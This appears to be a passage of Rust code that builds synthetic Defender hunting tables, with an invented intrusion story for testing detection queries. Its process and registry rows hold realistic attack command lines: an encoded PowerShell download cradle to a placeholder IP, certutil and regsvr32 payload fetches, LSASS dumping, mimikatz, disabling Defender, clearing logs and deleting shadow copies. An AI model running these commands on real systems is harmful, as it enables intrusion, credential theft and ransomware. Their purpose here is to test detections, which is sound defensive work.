//! The rest of Microsoft 365 Defender's hunting tables, and the behaviours the hunting library looks for.
//!
//! Two kinds of rows are seeded here. Rows *derived from the alerts* keep every view consistent (an alert with a
//! file on a device has the antivirus detection, the file's certificate row and, for a DLL, its image load; an alert
//! with a user and a URL has the phishing mail that carried it, the URL and the click). Rows from *stories* are the
//! short attack sequences the built-in hunting queries (`crates/secgraph/src/query/builtin/hunt_*.yaml`) are
//! written to find: each story names the queries that should return it, and a test runs every query against them.
//! Stories happen from the day before yesterday (midnight, UTC) into yesterday, on devices and accounts from the same
//! entity pools.

use super::tables::s;
use super::value::{KTable, KType, KV};
use crate::data::{Dataset, Device, Entities, FileInfo, Rng, User};
use base64::Engine as _;
use chrono::{DateTime, Duration, Utc};
use serde_json::{Value, json};
use std::collections::HashMap;

use KType::{Bool as B, DateTime as D, Dynamic as Y, Int as I, Long as L, String as S};

const INITIATING: &[(&str, KType)] = &[
    ("InitiatingProcessAccountDomain", S),
    ("InitiatingProcessAccountName", S),
    ("InitiatingProcessAccountSid", S),
    ("InitiatingProcessFileName", S),
    ("InitiatingProcessFolderPath", S),
    ("InitiatingProcessId", L),
    ("InitiatingProcessCommandLine", S),
    ("InitiatingProcessParentFileName", S),
    ("InitiatingProcessSHA1", S),
    ("ReportId", L),
];

/// A table's name, its own columns, and whether the initiating-process columns follow them.
type Schema = (&'static str, &'static [(&'static str, KType)], bool);

/// The new tables' own columns (the initiating-process columns and ReportId are appended to the Device* ones).
const SCHEMAS: &[Schema] = &[
    (
        "DeviceEvents",
        &[
            ("Timestamp", D),
            ("DeviceId", S),
            ("DeviceName", S),
            ("ActionType", S),
            ("FileName", S),
            ("FolderPath", S),
            ("SHA1", S),
            ("SHA256", S),
            ("MD5", S),
            ("AccountDomain", S),
            ("AccountName", S),
            ("AccountSid", S),
            ("RemoteUrl", S),
            ("RemoteDeviceName", S),
            ("ProcessId", L),
            ("ProcessCommandLine", S),
            ("RegistryKey", S),
            ("RegistryValueName", S),
            ("RegistryValueData", S),
            ("RemoteIP", S),
            ("RemotePort", I),
            ("LocalIP", S),
            ("LocalPort", I),
            ("FileOriginUrl", S),
            ("FileOriginIP", S),
            ("AdditionalFields", Y),
        ],
        true,
    ),
    (
        "DeviceRegistryEvents",
        &[
            ("Timestamp", D),
            ("DeviceId", S),
            ("DeviceName", S),
            ("ActionType", S),
            ("RegistryKey", S),
            ("RegistryValueType", S),
            ("RegistryValueName", S),
            ("RegistryValueData", S),
            ("PreviousRegistryKey", S),
            ("PreviousRegistryValueName", S),
            ("PreviousRegistryValueData", S),
        ],
        true,
    ),
    (
        "DeviceImageLoadEvents",
        &[
            ("Timestamp", D),
            ("DeviceId", S),
            ("DeviceName", S),
            ("ActionType", S),
            ("FileName", S),
            ("FolderPath", S),
            ("SHA1", S),
            ("SHA256", S),
            ("MD5", S),
            ("FileSize", L),
        ],
        true,
    ),
    (
        "DeviceFileCertificateInfo",
        &[
            ("Timestamp", D),
            ("DeviceId", S),
            ("DeviceName", S),
            ("SHA1", S),
            ("IsSigned", B),
            ("SignatureType", S),
            ("Signer", S),
            ("SignerHash", S),
            ("Issuer", S),
            ("IssuerHash", S),
            ("CertificateSerialNumber", S),
            ("CrlDistributionPointUrls", S),
            ("CertificateCreationTime", D),
            ("CertificateExpirationTime", D),
            ("IsTrusted", B),
            ("IsRootSignerMicrosoft", B),
            ("ReportId", L),
        ],
        false,
    ),
    (
        "EmailEvents",
        &[
            ("Timestamp", D),
            ("NetworkMessageId", S),
            ("InternetMessageId", S),
            ("SenderMailFromAddress", S),
            ("SenderFromAddress", S),
            ("SenderDisplayName", S),
            ("SenderMailFromDomain", S),
            ("SenderFromDomain", S),
            ("SenderIPv4", S),
            ("RecipientEmailAddress", S),
            ("RecipientObjectId", S),
            ("Subject", S),
            ("EmailClusterId", L),
            ("EmailDirection", S),
            ("DeliveryAction", S),
            ("DeliveryLocation", S),
            ("ThreatTypes", S),
            ("ThreatNames", S),
            ("DetectionMethods", S),
            ("ConfidenceLevel", S),
            ("AttachmentCount", I),
            ("UrlCount", I),
            ("EmailLanguage", S),
            ("OrgLevelAction", S),
            ("UserLevelAction", S),
            ("AuthenticationDetails", S),
            ("ReportId", S),
        ],
        false,
    ),
    (
        "EmailAttachmentInfo",
        &[
            ("Timestamp", D),
            ("NetworkMessageId", S),
            ("SenderFromAddress", S),
            ("SenderDisplayName", S),
            ("RecipientEmailAddress", S),
            ("RecipientObjectId", S),
            ("FileName", S),
            ("FileType", S),
            ("SHA256", S),
            ("FileSize", L),
            ("ThreatTypes", S),
            ("ThreatNames", S),
            ("DetectionMethods", S),
            ("ReportId", S),
        ],
        false,
    ),
    (
        "EmailUrlInfo",
        &[
            ("Timestamp", D),
            ("NetworkMessageId", S),
            ("Url", S),
            ("UrlDomain", S),
            ("UrlLocation", S),
            ("ReportId", S),
        ],
        false,
    ),
    (
        "UrlClickEvents",
        &[
            ("Timestamp", D),
            ("Url", S),
            ("ActionType", S),
            ("AccountUpn", S),
            ("Workload", S),
            ("NetworkMessageId", S),
            ("IPAddress", S),
            ("ThreatTypes", S),
            ("DetectionMethods", S),
            ("IsClickedThrough", B),
            ("UrlChain", S),
            ("ReportId", S),
        ],
        false,
    ),
    (
        "CloudAppEvents",
        &[
            ("Timestamp", D),
            ("ActionType", S),
            ("Application", S),
            ("ApplicationId", I),
            ("AccountObjectId", S),
            ("AccountId", S),
            ("AccountDisplayName", S),
            ("IsAdminOperation", B),
            ("DeviceType", S),
            ("OSPlatform", S),
            ("IPAddress", S),
            ("IsAnonymousProxy", B),
            ("CountryCode", S),
            ("City", S),
            ("ISP", S),
            ("UserAgent", S),
            ("ActivityType", S),
            ("ActivityObjects", Y),
            ("ObjectName", S),
            ("ObjectType", S),
            ("ObjectId", S),
            ("RawEventData", Y),
            ("ReportId", S),
        ],
        false,
    ),
    (
        "IdentityDirectoryEvents",
        &[
            ("Timestamp", D),
            ("ActionType", S),
            ("Application", S),
            ("TargetAccountUpn", S),
            ("TargetAccountDisplayName", S),
            ("TargetDeviceName", S),
            ("DestinationDeviceName", S),
            ("DestinationIPAddress", S),
            ("DestinationPort", I),
            ("Protocol", S),
            ("AccountName", S),
            ("AccountDomain", S),
            ("AccountUpn", S),
            ("AccountSid", S),
            ("AccountObjectId", S),
            ("AccountDisplayName", S),
            ("DeviceName", S),
            ("IPAddress", S),
            ("Port", I),
            ("Location", S),
            ("ISP", S),
            ("ReportId", S),
            ("AdditionalFields", Y),
        ],
        false,
    ),
    (
        "IdentityQueryEvents",
        &[
            ("Timestamp", D),
            ("ActionType", S),
            ("Application", S),
            ("QueryType", S),
            ("QueryTarget", S),
            ("Query", S),
            ("Protocol", S),
            ("AccountName", S),
            ("AccountDomain", S),
            ("AccountUpn", S),
            ("AccountSid", S),
            ("AccountObjectId", S),
            ("AccountDisplayName", S),
            ("DeviceName", S),
            ("IPAddress", S),
            ("Port", I),
            ("DestinationDeviceName", S),
            ("DestinationIPAddress", S),
            ("DestinationPort", I),
            ("TargetDeviceName", S),
            ("TargetAccountUpn", S),
            ("TargetAccountDisplayName", S),
            ("Location", S),
            ("ReportId", S),
            ("AdditionalFields", Y),
        ],
        false,
    ),
];

/// Rows by column name into any table; a name the table lacks is a bug in the seeding (caught in debug builds).
pub(super) struct Tables<'a>(pub(super) &'a mut HashMap<String, KTable>);

impl Tables<'_> {
    pub(super) fn push(&mut self, table: &str, values: &[(&str, KV)]) {
        let Some(t) = self.0.get_mut(table) else {
            debug_assert!(false, "no table {table}");
            return;
        };
        let mut row = vec![KV::Null; t.columns.len()];
        for (k, v) in values {
            match t.index(k) {
                Some(i) => row[i] = v.clone(),
                None => debug_assert!(false, "{table} has no column {k}"),
            }
        }
        t.rows.push(row);
    }
}

/// Adds the new tables (empty) to `tables`.
pub(super) fn add_schemas(tables: &mut HashMap<String, KTable>) {
    for (name, cols, initiating) in SCHEMAS {
        let mut columns: Vec<(String, KType)> = cols.iter().map(|(n, t)| (n.to_string(), *t)).collect();
        if *initiating {
            columns.extend(INITIATING.iter().map(|(n, t)| (n.to_string(), *t)));
        }
        tables.insert(name.to_string(), KTable { columns, rows: vec![] });
    }
}

fn hex(rng: &mut Rng, n: usize) -> KV {
    KV::Str(rng.hex(n))
}

const TENANT_DOMAIN: &str = "contoso-demo.onmicrosoft.com";

/// Rows derived from one alert's evidence (`alert` is the alert's JSON).
pub(super) fn from_alert(t: &mut Tables, rng: &mut Rng, alert: &Value, at: DateTime<Utc>, report: &mut i64) {
    let ev = alert["evidence"].as_array().map(Vec::as_slice).unwrap_or_default();
    let kind = |x: &Value| {
        x["@odata.type"]
            .as_str()
            .unwrap_or("")
            .trim_start_matches("#microsoft.graph.security.")
            .to_string()
    };
    let device = ev.iter().find(|x| kind(x) == "deviceEvidence");
    let user = ev.iter().find_map(|x| x.get("userAccount")).filter(|u| !u.is_null());
    let text = |v: &Value| KV::Str(v.as_str().unwrap_or("").to_string());
    if let Some(d) = device {
        let on_device = [("DeviceId", text(&d["mdeDeviceId"])), ("DeviceName", text(&d["deviceDnsName"]))];
        for fe in ev.iter().filter(|x| kind(x) == "fileEvidence") {
            let f = &fe["fileDetails"];
            let name = f["fileName"].as_str().unwrap_or("");
            let sha1 = ("SHA1", text(&f["sha1"]));
            let file = [
                ("FileName", s(name)),
                ("FolderPath", text(&f["filePath"])),
                sha1.clone(),
                ("SHA256", text(&f["sha256"])),
            ];
            let row = |when: i64, extra: Vec<(&'static str, KV)>| {
                let mut r = vec![("Timestamp", KV::Date(at - Duration::seconds(when)))];
                r.extend(on_device.iter().cloned());
                r.extend(extra);
                r
            };
            *report += 1;
            let threat = alert["title"]
                .as_str()
                .and_then(|t| t.split_whitespace().next())
                .unwrap_or("Generic");
            let mut detection = vec![("ActionType", s("AntivirusDetection")), ("ReportId", KV::Long(*report))];
            detection.extend(file.iter().cloned());
            detection.push((
                "AdditionalFields",
                KV::Dyn(json!({"ThreatName": format!("Trojan:Win32/{threat}"), "WasRemediated": true})),
            ));
            t.push("DeviceEvents", &row(20, detection));
            // Every file seen on a device has a certificate row: the alert's files are unsigned.
            t.push(
                "DeviceFileCertificateInfo",
                &row(
                    25,
                    vec![
                        sha1,
                        ("IsSigned", KV::Bool(false)),
                        ("IsTrusted", KV::Bool(false)),
                        ("IsRootSignerMicrosoft", KV::Bool(false)),
                        ("ReportId", KV::Long(*report)),
                    ],
                ),
            );
            if name.ends_with(".dll") {
                *report += 1;
                let mut load = vec![
                    ("ActionType", s("ImageLoaded")),
                    ("FileSize", f["fileSize"].as_i64().map(KV::Long).unwrap_or(KV::Null)),
                    ("InitiatingProcessFileName", s("rundll32.exe")),
                    ("InitiatingProcessFolderPath", s("C:\\Windows\\System32")),
                    ("ReportId", KV::Long(*report)),
                ];
                load.extend(file.iter().cloned());
                t.push("DeviceImageLoadEvents", &row(40, load));
            }
        }
    }
    // A user and a URL: the message that carried the URL, the URL, and the click.
    if let (Some(u), Some(url)) = (user, ev.iter().find_map(|x| x["url"].as_str())) {
        let upn = u["userPrincipalName"].as_str().unwrap_or("");
        let id = rng.guid();
        let sent = at - Duration::minutes(30 + rng.below(90) as i64);
        let domain = url::Url::parse(url)
            .ok()
            .and_then(|x| x.host_str().map(str::to_string))
            .unwrap_or_default();
        t.push(
            "EmailEvents",
            &[
                ("Timestamp", KV::Date(sent)),
                ("NetworkMessageId", s(&id)),
                ("InternetMessageId", s(&format!("<{}@mail.example-sender.net>", rng.hex(16)))),
                ("SenderFromAddress", s("billing@example-sender.net")),
                ("SenderMailFromAddress", s("bounce@example-sender.net")),
                ("SenderDisplayName", s("Billing")),
                ("SenderFromDomain", s("example-sender.net")),
                ("SenderMailFromDomain", s("example-sender.net")),
                ("SenderIPv4", s("203.0.113.200")),
                ("RecipientEmailAddress", s(upn)),
                ("RecipientObjectId", text(&u["azureAdUserId"])),
                ("Subject", s("Your invoice is ready")),
                ("EmailDirection", s("Inbound")),
                ("DeliveryAction", s("Delivered")),
                ("DeliveryLocation", s("Inbox/folder")),
                ("ThreatTypes", s("Phish")),
                ("DetectionMethods", s("{\"Phish\":[\"URL detonation reputation\"]}")),
                ("AttachmentCount", KV::Long(0)),
                ("UrlCount", KV::Long(1)),
                ("EmailLanguage", s("en")),
                (
                    "AuthenticationDetails",
                    s("{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\"}"),
                ),
                ("ReportId", s(&format!("{id}-1"))),
            ],
        );
        t.push(
            "EmailUrlInfo",
            &[
                ("Timestamp", KV::Date(sent)),
                ("NetworkMessageId", s(&id)),
                ("Url", s(url)),
                ("UrlDomain", s(&domain)),
                ("UrlLocation", s("Body")),
                ("ReportId", s(&format!("{id}-2"))),
            ],
        );
        t.push(
            "UrlClickEvents",
            &[
                ("Timestamp", KV::Date(at - Duration::minutes(5))),
                ("Url", s(url)),
                ("ActionType", s("ClickAllowed")),
                ("AccountUpn", s(upn)),
                ("Workload", s("Email")),
                ("NetworkMessageId", s(&id)),
                ("IPAddress", s("198.51.100.10")),
                ("ThreatTypes", s("Phish")),
                ("IsClickedThrough", KV::Bool(false)),
                ("UrlChain", s(&format!("[\"{url}\"]"))),
                ("ReportId", s(&format!("{id}-3"))),
            ],
        );
    }
}

/// One actor on one device: the columns every Device* row about them shares.
struct On<'a> {
    d: &'a Device,
    u: &'a User,
}

impl On<'_> {
    fn device(&self) -> [(&'static str, KV); 2] {
        [("DeviceId", s(&self.d.mde_id)), ("DeviceName", s(&self.d.fqdn))]
    }
    fn account(&self) -> [(&'static str, KV); 3] {
        [
            ("AccountDomain", s(self.u.domain)),
            ("AccountName", s(&self.u.account)),
            ("AccountSid", s(&self.u.sid)),
        ]
    }
    fn initiating(&self, file: &str, cmd: &str, parent: &str) -> [(&'static str, KV); 6] {
        [
            ("InitiatingProcessAccountDomain", s(self.u.domain)),
            ("InitiatingProcessAccountName", s(&self.u.account)),
            ("InitiatingProcessAccountSid", s(&self.u.sid)),
            ("InitiatingProcessFileName", s(file)),
            ("InitiatingProcessCommandLine", s(cmd)),
            ("InitiatingProcessParentFileName", s(parent)),
        ]
    }
}

/// What every story draws on: the entity pools, the instant its minutes count from, and the ReportId sequence.
struct Cast<'a> {
    e: &'a Entities,
    base: DateTime<Utc>,
    report: &'a mut i64,
}

impl<'a> Cast<'a> {
    /// `minutes` after the stories' start, as a table value.
    fn clock(&self) -> impl Fn(i64) -> KV + Copy + use<> {
        let base = self.base;
        move |minutes: i64| KV::Date(base + Duration::minutes(minutes))
    }
    /// Devices and users by position, wrapping around the pools.
    fn pools(
        &self,
    ) -> (
        impl Fn(usize) -> &'a Device + Copy + use<'a>,
        impl Fn(usize) -> &'a User + Copy + use<'a>,
    ) {
        let e = self.e;
        (
            move |i: usize| &e.devices[i % e.devices.len()],
            move |i: usize| &e.users[i % e.users.len()],
        )
    }
    /// The next ReportId.
    fn next(&mut self) -> KV {
        *self.report += 1;
        KV::Long(*self.report)
    }
}

/// The stories: see the module documentation. `report` continues the tables' ReportId sequence.
pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64) {
    let e = &ds.entities;
    let now = ds.generated_at;
    // Midnight two days back: the stories' bursts then fall inside one bin (15 minutes, an hour, a day) whatever the
    // time of day, so the queries that count per bin find them.
    let base = (now - Duration::days(2))
        .date_naive()
        .and_hms_opt(0, 0, 0)
        .map(|t| t.and_utc())
        .unwrap_or(now - Duration::days(2));
    let mut c = Cast { e, base, report };
    let (dev, usr) = c.pools();
    // The intrusion: a phishing document opens a shell that downloads and runs a stage, then the attacker looks
    // around, dumps credentials, persists and moves on (ws-hr-101, bianca.rossi), reaching a server (`target`).
    let a = On { d: dev(1), u: usr(1) };
    let target = On { d: dev(7), u: usr(1) };
    let anydesk = e.files.iter().find(|f| f.name == "AnyDesk.exe");
    // The phishing attachment: the same hash on disk and in the mail.
    let docm = e
        .files
        .iter()
        .find(|f| f.name == "invoice_0423.docm")
        .map(|f| f.sha256.clone())
        .unwrap_or_default();
    processes(t, rng, &mut c, &a, &target, anydesk);
    files(t, rng, &mut c, &a, &target, anydesk, &docm);
    image_loads(t, rng, &mut c, &a);
    registry(t, &mut c, &a);
    device_events(t, &mut c, &a, &target);
    network(t, &mut c, &a);
    logons(t, &mut c);
    identity_logons(t, &mut c);
    directory(t, rng, &mut c, &a);
    email(t, rng, &mut c, &a, &docm);
    cloud_apps(t, &mut c, &a);
}

/// The intrusion's processes on the first device, then on the machines it reaches.
fn processes(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On, target: &On, anydesk: Option<&FileInfo>) {
    let at = c.clock();
    let stage_url = "http://203.0.113.77/stage2.ps1";
    let enc = base64::engine::general_purpose::STANDARD.encode(format!("IEX (New-Object Net.WebClient).DownloadString('{stage_url}')"));
    let word = "\"WINWORD.EXE\" /n \"C:\\Users\\bianca\\Downloads\\invoice_0423.docm\"";
    let procs: Vec<(i64, &str, &str, String, &str, &str)> = vec![
        // (minute, file, folder, command line, parent, parent command line)
        (0, "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", format!("powershell.exe -nop -w hidden -enc {enc}"), "WINWORD.EXE", word),
        (2, "certutil.exe", "C:\\Windows\\System32", "certutil.exe -urlcache -split -f http://203.0.113.77/beacon.bin C:\\Windows\\Tasks\\beacon.bin".into(), "powershell.exe", "powershell.exe -nop -w hidden"),
        (3, "bitsadmin.exe", "C:\\Windows\\System32", "bitsadmin.exe /transfer job1 /download /priority high http://203.0.113.77/update_helper.dll C:\\ProgramData\\Updater\\update_helper.dll".into(), "powershell.exe", "powershell.exe -nop -w hidden"),
        (4, "regsvr32.exe", "C:\\Windows\\System32", "regsvr32.exe /s /n /u /i:http://203.0.113.77/file.sct scrobj.dll".into(), "powershell.exe", "powershell.exe -nop -w hidden"),
        (5, "mshta.exe", "C:\\Windows\\System32", "mshta.exe http://203.0.113.77/invoice.hta".into(), "cmd.exe", "cmd.exe /c start"),
        (10, "whoami.exe", "C:\\Windows\\System32", "whoami.exe /all".into(), "cmd.exe", "cmd.exe"),
        (11, "net.exe", "C:\\Windows\\System32", "net.exe user /domain".into(), "cmd.exe", "cmd.exe"),
        (11, "net.exe", "C:\\Windows\\System32", "net.exe group \"domain admins\" /domain".into(), "cmd.exe", "cmd.exe"),
        (12, "nltest.exe", "C:\\Windows\\System32", "nltest.exe /dclist:contoso.local".into(), "cmd.exe", "cmd.exe"),
        (12, "ipconfig.exe", "C:\\Windows\\System32", "ipconfig.exe /all".into(), "cmd.exe", "cmd.exe"),
        (13, "systeminfo.exe", "C:\\Windows\\System32", "systeminfo.exe".into(), "cmd.exe", "cmd.exe"),
        (13, "arp.exe", "C:\\Windows\\System32", "arp.exe -a".into(), "cmd.exe", "cmd.exe"),
        (20, "rundll32.exe", "C:\\Windows\\System32", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full".into(), "powershell.exe", "powershell.exe -nop -w hidden"),
        (21, "procdump64.exe", "C:\\Tools", "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp".into(), "cmd.exe", "cmd.exe"),
        (22, "mimikatz.exe", "C:\\Users\\Public\\Downloads", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit".into(), "cmd.exe", "cmd.exe"),
        (30, "schtasks.exe", "C:\\Windows\\System32", "schtasks.exe /create /sc minute /mo 30 /tn \"OneDrive Updater\" /tr \"rundll32.exe C:\\ProgramData\\Updater\\update_helper.dll,Start\" /f".into(), "powershell.exe", "powershell.exe -nop -w hidden"),
        (31, "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData\\Updater".into(), "cmd.exe", "cmd.exe"),
        (32, "wevtutil.exe", "C:\\Windows\\System32", "wevtutil.exe cl Security".into(), "cmd.exe", "cmd.exe"),
        (40, "wmic.exe", "C:\\Windows\\System32\\wbem", "wmic.exe /node:srv-it-15 process call create \"cmd.exe /c C:\\Windows\\Tasks\\beacon.bin\"".into(), "cmd.exe", "cmd.exe"),
        (41, "PsExec.exe", "C:\\Tools", "PsExec.exe \\\\srv-fin-07 -accepteula -s cmd.exe".into(), "cmd.exe", "cmd.exe"),
        (50, "AnyDesk.exe", "C:\\Users\\bianca\\Downloads", "\"AnyDesk.exe\" --install".into(), "explorer.exe", "explorer.exe"),
    ];
    for (m, file, folder, cmd, parent, parent_cmd) in &procs {
        let sha256 = match (&anydesk, *file) {
            (Some(f), "AnyDesk.exe") => s(&f.sha256),
            _ => hex(rng, 64),
        };
        let mut row = vec![
            ("Timestamp", at(*m)),
            ("ActionType", s("ProcessCreated")),
            ("FileName", s(file)),
            ("FolderPath", s(&format!("{folder}\\{file}"))),
            ("SHA1", hex(rng, 40)),
            ("SHA256", sha256),
            ("ProcessId", KV::Long(4000 + *m * 7)),
            ("ProcessCommandLine", s(cmd)),
            ("ProcessIntegrityLevel", s("High")),
            ("AccountUpn", s(&a.u.upn)),
            ("InitiatingProcessFileName", s(parent)),
            ("InitiatingProcessCommandLine", s(parent_cmd)),
            ("InitiatingProcessAccountName", s(&a.u.account)),
            ("InitiatingProcessAccountDomain", s(a.u.domain)),
            ("ReportId", c.next()),
        ];
        row.extend(a.device());
        row.extend(a.account());
        t.push("DeviceProcessEvents", &row);
    }
    // PsExec's service on the target, and a ransomware precursor on a server.
    for (m, file, cmd, parent) in [
        (41, "PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe"),
        (60, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
        (61, "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no", "cmd.exe"),
    ] {
        let mut row = vec![
            ("Timestamp", at(m)),
            ("ActionType", s("ProcessCreated")),
            ("FileName", s(file)),
            ("FolderPath", s(&format!("C:\\Windows\\System32\\{file}"))),
            ("SHA256", hex(rng, 64)),
            ("ProcessCommandLine", s(cmd)),
            ("InitiatingProcessFileName", s(parent)),
            ("ReportId", c.next()),
        ];
        row.extend(target.device());
        row.extend(target.account());
        t.push("DeviceProcessEvents", &row);
    }
}

/// The files the intrusion lands, renames and stages.
fn files(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On, target: &On, anydesk: Option<&FileInfo>, docm: &str) {
    let at = c.clock();
    // Files: the stage and tools land, a downloaded installer (run above), a script from the browser, an archive
    // staged for exfiltration, and a burst of encrypted files on the server.
    let file = |t: &mut Tables,
                who: &On,
                m: i64,
                name: &str,
                folder: &str,
                action: &str,
                origin: &str,
                by: &str,
                size: i64,
                sha256: KV,
                rng: &mut Rng| {
        let mut row = vec![
            ("Timestamp", at(m)),
            ("ActionType", s(action)),
            ("FileName", s(name)),
            ("FolderPath", s(&format!("{folder}\\{name}"))),
            ("SHA1", hex(rng, 40)),
            ("SHA256", sha256),
            ("FileSize", KV::Long(size)),
            ("FileOriginUrl", s(origin)),
            ("InitiatingProcessFileName", s(by)),
            ("InitiatingProcessAccountName", s(&who.u.account)),
            ("InitiatingProcessAccountDomain", s(who.u.domain)),
        ];
        row.extend(who.device());
        t.push("DeviceFileEvents", &row);
    };
    let h = hex(rng, 64);
    file(
        t,
        a,
        2,
        "beacon.bin",
        "C:\\Windows\\Tasks",
        "FileCreated",
        "http://203.0.113.77/beacon.bin",
        "certutil.exe",
        250_000,
        h,
        rng,
    );
    let h = hex(rng, 64);
    file(
        t,
        a,
        3,
        "update_helper.dll",
        "C:\\ProgramData\\Updater",
        "FileCreated",
        "http://203.0.113.77/update_helper.dll",
        "bitsadmin.exe",
        180_000,
        h,
        rng,
    );
    if let Some(f) = &anydesk {
        file(
            t,
            a,
            48,
            "AnyDesk.exe",
            "C:\\Users\\bianca\\Downloads",
            "FileCreated",
            "https://download.example-tools.net/AnyDesk.exe",
            "msedge.exe",
            f.size as i64,
            s(&f.sha256),
            rng,
        );
    }
    let h = hex(rng, 64);
    file(
        t,
        a,
        6,
        "invoice_view.hta",
        "C:\\Users\\bianca\\Downloads",
        "FileCreated",
        "https://docs-share.example-cdn.org/invoice.html",
        "chrome.exe",
        4_000,
        h,
        rng,
    );
    let h = hex(rng, 64);
    file(
        t,
        a,
        70,
        "q4_finance_export.7z",
        "C:\\Users\\Public",
        "FileCreated",
        "",
        "7z.exe",
        1_900_000_000,
        h,
        rng,
    );
    file(
        t,
        a,
        -3,
        "invoice_0423.docm",
        "C:\\Users\\bianca\\Downloads",
        "FileCreated",
        "",
        "OUTLOOK.EXE",
        88_000,
        s(docm),
        rng,
    );
    for i in 0..30 {
        let h = hex(rng, 64);
        let name = format!("budget_{i:02}.xlsx.locked");
        file(
            t,
            target,
            62 + i / 10,
            &name,
            "D:\\Shares\\Finance",
            "FileRenamed",
            "",
            "locker.exe",
            40_000,
            h,
            rng,
        );
    }
}

/// A side-loaded DLL among signed, trusted loads.
fn image_loads(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On) {
    let at = c.clock();
    let (dev, usr) = c.pools();
    // The side-loaded DLL: loaded by a signed program from a folder anyone can write, and itself unsigned.
    let dll_sha1 = rng.hex(40);
    let mut row = vec![
        ("Timestamp", at(35)),
        ("ActionType", s("ImageLoaded")),
        ("FileName", s("update_helper.dll")),
        ("FolderPath", s("C:\\ProgramData\\Updater\\update_helper.dll")),
        ("SHA1", s(&dll_sha1)),
        ("SHA256", hex(rng, 64)),
        ("FileSize", KV::Long(180_000)),
        ("ReportId", c.next()),
    ];
    row.extend(a.device());
    row.extend(a.initiating("OneDriveUpdater.exe", "OneDriveUpdater.exe /silent", "svchost.exe"));
    t.push("DeviceImageLoadEvents", &row);
    let mut row = vec![
        ("Timestamp", at(35)),
        ("SHA1", s(&dll_sha1)),
        ("IsSigned", KV::Bool(false)),
        ("IsTrusted", KV::Bool(false)),
        ("IsRootSignerMicrosoft", KV::Bool(false)),
        ("ReportId", c.next()),
    ];
    row.extend(a.device());
    t.push("DeviceFileCertificateInfo", &row);
    // Signed, trusted loads everywhere, for contrast.
    for i in 0..8 {
        let d = On { d: dev(i), u: usr(i) };
        let sha1 = rng.hex(40);
        let mut row = vec![
            ("Timestamp", at(-600 + i as i64 * 37)),
            ("ActionType", s("ImageLoaded")),
            ("FileName", s("mscoree.dll")),
            ("FolderPath", s("C:\\Windows\\System32\\mscoree.dll")),
            ("SHA1", s(&sha1)),
            ("ReportId", c.next()),
        ];
        row.extend(d.device());
        row.extend(d.initiating("WINWORD.EXE", "WINWORD.EXE", "explorer.exe"));
        t.push("DeviceImageLoadEvents", &row);
        let mut row = vec![
            ("Timestamp", at(-600 + i as i64 * 37)),
            ("SHA1", s(&sha1)),
            ("IsSigned", KV::Bool(true)),
            ("SignatureType", s("Embedded")),
            ("Signer", s("Microsoft Windows")),
            ("Issuer", s("Microsoft Windows Production PCA 2011")),
            ("IsTrusted", KV::Bool(true)),
            ("IsRootSignerMicrosoft", KV::Bool(true)),
            ("ReportId", c.next()),
        ];
        row.extend(d.device());
        t.push("DeviceFileCertificateInfo", &row);
    }
}

/// Persistence and defence evasion in the registry, among ordinary writes.
fn registry(t: &mut Tables, c: &mut Cast, a: &On) {
    let at = c.clock();
    let (dev, usr) = c.pools();
    // Registry: a Run key, the accessibility debugger, Defender switched off.
    for (m, key, name, data) in [
        (
            33,
            "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "OneDriveUpdate",
            "rundll32.exe C:\\ProgramData\\Updater\\update_helper.dll,Start",
        ),
        (
            34,
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe",
            "Debugger",
            "C:\\Windows\\System32\\cmd.exe",
        ),
        (
            31,
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
            "DisableAntiSpyware",
            "1",
        ),
        (
            31,
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection",
            "DisableRealtimeMonitoring",
            "1",
        ),
    ] {
        let mut row = vec![
            ("Timestamp", at(m)),
            ("ActionType", s("RegistryValueSet")),
            ("RegistryKey", s(key)),
            ("RegistryValueType", s(if data == "1" { "Dword" } else { "String" })),
            ("RegistryValueName", s(name)),
            ("RegistryValueData", s(data)),
            ("ReportId", c.next()),
        ];
        row.extend(a.device());
        row.extend(a.initiating("reg.exe", &format!("reg.exe add \"{key}\" /v {name} /d \"{data}\" /f"), "cmd.exe"));
        t.push("DeviceRegistryEvents", &row);
    }
    // Ordinary registry writes elsewhere.
    for i in 0..10 {
        let d = On {
            d: dev(i + 2),
            u: usr(i + 2),
        };
        let mut row = vec![
            ("Timestamp", at(-1200 + i as i64 * 61)),
            ("ActionType", s("RegistryValueSet")),
            (
                "RegistryKey",
                s("HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Common\\General"),
            ),
            ("RegistryValueType", s("Dword")),
            ("RegistryValueName", s("ShownFirstRunOptin")),
            ("RegistryValueData", s("1")),
            ("ReportId", c.next()),
        ];
        row.extend(d.device());
        row.extend(d.initiating("WINWORD.EXE", "WINWORD.EXE", "explorer.exe"));
        t.push("DeviceRegistryEvents", &row);
    }
}

/// DeviceEvents of the intrusion, among ordinary PowerShell.
fn device_events(t: &mut Tables, c: &mut Cast, a: &On, target: &On) {
    let at = c.clock();
    let (dev, usr) = c.pools();
    // DeviceEvents: the scheduled task and PsExec's service, LSASS opened, PowerShell commands, SmartScreen.
    let dev_event = |t: &mut Tables, who: &On, m: i64, action: &str, extra: Vec<(&str, KV)>, fields: Value, report: KV| {
